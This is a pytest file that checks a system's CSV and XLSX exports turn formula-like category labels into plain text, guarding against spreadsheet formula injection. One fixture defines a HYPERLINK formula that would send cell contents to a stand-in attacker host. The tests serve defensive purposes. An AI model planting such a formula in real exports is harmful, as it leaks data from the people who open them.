"""A category or an organisation named like a formula reaches a spreadsheet as text: an export
opened in Excel or LibreOffice must not run "=HYPERLINK(...)" (issue 16, item 7)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from core.models import Role
from indicators.exports import csv_text, xlsx_bytes
from tests.audit.indicator_fixtures import at, category, org, register_row
from tests.conftest import signed_in_client

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_made_text(start):
    rows = [["label", start + "1+1"], ["change", "-12.5"], ["count", -3]]
    [[_, label], [_, change], [_, count]] = list(csv.reader(io.StringIO(csv_text(rows))))
    assert label == "'" + start + "1+1"
    assert (change, count) == ("-12.5", "-3")  # numbers stay numbers
    sheet = load_workbook(io.BytesIO(xlsx_bytes({"t": rows})))["t"]
    # (XML turns a carriage return into a line feed; what matters is the quote and the type.)
    assert sheet["B1"].data_type == "s" and sheet["B1"].value.startswith("'")


def test_an_exported_category_named_as_a_formula_stays_text(make_staff, db):
    province = org(code="PROV")
    named = category(code="evil", label_en=FORMULA, label_th=FORMULA)
    for day in range(1, 8):
        register_row(province, at(2026, 1, day).date(), category=named)
    client = signed_in_client(make_staff(Role.AUDITOR, organisation=province))
    text = client.get("/en/staff/audit/export/category_mix.csv?fy=2569").content.decode("utf-8-sig")
    labels = [row[1] for row in csv.reader(io.StringIO(text))]
    assert "'" + FORMULA in labels and FORMULA not in labels
    workbook = load_workbook(
        io.BytesIO(client.get("/staff/audit/export/category_mix.xlsx?fy=2569").content)
    )
    cells = [cell for row in workbook["category_mix"].iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
